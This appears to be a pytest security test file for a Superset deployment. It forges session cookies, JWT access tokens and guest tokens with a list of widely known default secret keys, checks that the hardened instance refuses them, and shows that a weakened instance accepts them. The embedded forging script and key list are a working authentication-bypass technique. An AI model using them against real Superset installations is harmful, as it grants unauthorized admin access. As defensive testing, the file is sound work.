"""Attack 2: Superset sessions, access tokens and guest tokens forged with the secrets that everybody knows."""

import contextlib
import json
import re
import subprocess

import pytest
import requests

from infra.services import superset
from infra.services.base import base_environment
from infra.settings import HOST, REPO

KNOWN_KEYS = (
    "thisISaSECRET_1234",
    "CHANGE_ME_TO_A_COMPLEX_RANDOM_SECRET",
    "\x02\x01thisismyscretkey\x01\x02\\e\\y\\y\\h",
    "YOUR_OWN_RANDOM_GENERATED_SECRET_KEY",
    "TEST_NON_DEV_SECRET",
)
KNOWN_GUEST_SECRET = "test-guest-secret-change-me"
# Runs in Superset's environment: the attacker uses the same libraries.
FORGE = """
import json, sys, time
import jwt
from flask import Flask
from flask.sessions import SecureCookieSessionInterface

keys, guest_secret, audiences = json.load(sys.stdin)
forged = {"cookies": [], "tokens": []}
now = int(time.time())
for key in keys:
    app = Flask("attacker")
    app.secret_key = key
    session = {"_user_id": "1", "user_id": 1, "_fresh": True, "locale": "en"}
    forged["cookies"].append(SecureCookieSessionInterface().get_signing_serializer(app).dumps(session))
    claims = {"fresh": True, "iat": now, "nbf": now, "exp": now + 900, "jti": "0", "type": "access", "sub": "1", "csrf": "0"}
    forged["tokens"].append(jwt.encode(claims, key, algorithm="HS256"))
guest = {"user": {"username": "guest"}, "resources": [], "rls_rules": [], "iat": now, "exp": now + 300, "aud": audiences, "type": "guest"}
forged["guest"] = jwt.encode(guest, guest_secret, algorithm="HS256")
print(json.dumps(forged))
"""
# What an installation looks like that kept the known secrets.
WEAKENED = """
__file__ = {ours!r}
exec(compile(open(__file__).read(), __file__, "exec"))
SECRET_KEY = {key!r}
GUEST_TOKEN_JWT_SECRET = {guest!r}
SESSION_SERVER_SIDE = False
FEATURE_FLAGS = FEATURE_FLAGS | {{"EMBEDDED_SUPERSET": True}}
GUEST_ROLE_NAME = "Gamma"
"""


@pytest.fixture(scope="module")
def forged(stack):
    audiences = ["http://0.0.0.0:8080/", stack.url("superset"), stack.url("superset", "/"), superset.address(stack.context)]
    done = subprocess.run(
        [stack.settings.program("superset", "python"), "-P", "-c", FORGE], input=json.dumps([KNOWN_KEYS, KNOWN_GUEST_SECRET, audiences]),
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    return json.loads(done.stdout)


def with_cookie(base, cookie):
    """The user that a forged cookie makes of us; None when it makes nobody."""
    who = requests.get(f"{base}/api/v1/me/", cookies={"session": cookie}, timeout=30)
    page = requests.get(f"{base}/superset/welcome/", cookies={"session": cookie}, allow_redirects=False, timeout=30)
    if who.status_code == 401 and page.status_code == 302 and "/login" in page.headers["Location"]:
        return None
    return who.json()["result"]["username"]


def with_header(base, name, value):
    who = requests.get(f"{base}/api/v1/dashboard/", headers={name: value}, timeout=30)
    # 422 is what Flask-JWT-Extended says of a token whose signature is wrong.
    return None if who.status_code in (401, 422) else who.status_code


@contextlib.contextmanager
def weakened_superset(stack, folder, running, eventually, free_port):
    port = free_port()
    ours = REPO / "infra" / "services" / "superset" / "superset_config.py"
    config = folder / "weakened_config.py"
    config.write_text(WEAKENED.format(ours=str(ours), key=KNOWN_KEYS[0], guest=KNOWN_GUEST_SECRET))
    environment = {
        **base_environment(stack.settings), **superset.environment(stack.context),
        "SUPERSET_CONFIG_PATH": str(config), "SUPERSET_HOME": str(folder), "LAKE_SUPERSET_STATE": str(folder), "HOME": str(folder),
    }  # fmt: skip
    argv = [
        stack.settings.program("superset", "gunicorn"),
        "--bind",
        f"{HOST}:{port}",
        "--workers",
        "1",
        "--threads",
        "4",
        "superset.app:create_app()",
    ]
    with running(argv, env=environment, cwd=folder):
        base = f"http://{HOST}:{port}"
        eventually(lambda: requests.get(f"{base}/health", timeout=5).status_code == 200, 90, "the weakened Superset")
        yield base


def test_forged_sessions_and_tokens_are_refused(stack, forged):
    base = stack.url("superset")
    assert [with_cookie(base, cookie) for cookie in forged["cookies"]] == [None] * len(KNOWN_KEYS)
    assert [with_header(base, "Authorization", f"Bearer {token}") for token in forged["tokens"]] == [None] * len(KNOWN_KEYS)
    assert with_header(base, "X-GuestToken", forged["guest"]) is None


def test_they_open_a_superset_that_kept_the_known_secrets(stack, forged, tmp_path, running, eventually, free_port):
    with weakened_superset(stack, tmp_path, running, eventually, free_port) as base:
        assert with_cookie(base, forged["cookies"][0]) in stack.passwords
        assert with_header(base, "Authorization", f"Bearer {forged['tokens'][0]}") == 200
        assert with_header(base, "X-GuestToken", forged["guest"]) == 200
        # A key that this one does not have opens nothing here either: it is the key that matters.
        assert with_cookie(base, forged["cookies"][1]) is None


def test_a_session_cookie_is_worth_nothing_after_logout(stack):
    base = stack.url("superset")
    browser = requests.Session()
    form = browser.get(f"{base}/login/", timeout=30)
    (token,) = re.findall(r'name="csrf_token"\s+id="csrf_token"\s+value="([^"]+)"', form.text)
    browser.post(f"{base}/login/", data={"username": "leader", "password": stack.password("leader"), "csrf_token": token}, timeout=30)
    kept = browser.cookies["session"]
    assert requests.get(f"{base}/api/v1/me/", cookies={"session": kept}, timeout=30).status_code == 200
    browser.get(f"{base}/logout/", timeout=30)
    assert requests.get(f"{base}/api/v1/me/", cookies={"session": kept}, timeout=30).status_code == 401
